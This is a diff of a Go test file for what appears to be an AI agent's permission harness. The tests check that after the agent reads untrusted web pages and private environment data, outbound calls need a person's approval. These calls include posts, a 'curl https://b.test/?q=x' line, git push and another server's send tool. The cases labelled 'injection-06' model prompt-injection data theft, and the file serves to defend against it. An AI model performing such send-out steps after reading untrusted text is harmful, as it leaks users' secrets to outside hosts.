@@ -63,7 +63,7 @@ func TestTaint(t *testing.T) {
 	rows := map[string][]step{
 		"one leg is no matter: private data alone":            {env, command("npm install"), command("git push"), post("a.test")},
 		"one leg is no matter: pages alone":                   {fetchOf("a.test"), fetchOf("b.test"), command("go test ./..."), command("npm install"), command("git fetch")},
-		"injection-06 a page, private data, a way out":        {fetchOf("a.test"), env, post("b.test").is(Ask)},
+		"injection-06 a page, private data, then sending":     {fetchOf("a.test"), env, post("b.test").is(Ask)},
 		"injection-06 in the other order":                     {env, fetchOf("a.test"), post("b.test").is(Ask)},
 		"injection-06 an address carries a little, too":       {env, fetchOf("a.test"), fetchOf("b.test").is(Ask), command("curl https://b.test/?q=x").is(Ask), command("git push").is(Ask), command("npm install").is(Ask)},
 		"injection-06 a tool of another server":               {step{name: "mcp__x__search"}, env, step{name: "mcp__x__send"}.is(Ask)},
@@ -84,8 +84,9 @@ func TestTaint(t *testing.T) {
 	}
 }
 
-// TestTaintIsAnsweredByAPerson: once both were read, no lasting answer and no ordinary rule speaks for a way out.
-func TestTaintIsAnsweredByAPerson(t *testing.T) {
+// TestOnlyAPersonApprovesTaintedCalls: after untrusted and private text were read, no remembered answer and no
+// ordinary rule approves a call that sends data out.
+func TestOnlyAPersonApprovesTaintedCalls(t *testing.T) {
 	list := rules(t, User, `{"allow":["bash(npm install:*)", "web_fetch(domain:a.test)"]}`)
 	risky := rules(t, User, `{"allow":[{"rule":"bash(npm install:*)","risk":"high"}]}`)
 	taint := &Taint{Programs: home}
@@ -100,7 +101,7 @@ func TestTaintIsAnsweredByAPerson(t *testing.T) {
 	}
 	c := bash("ls; npm install x")
 	if a, _ := (&Rules{List: risky, Programs: home}).Approve(t.Context(), c, all.Judge(t.Context(), c)); a.Choice != Approved {
-		t.Error("a rule that says risk: high does not count")
+		t.Error("a rule with risk: high does not count")
 	}
 }
 
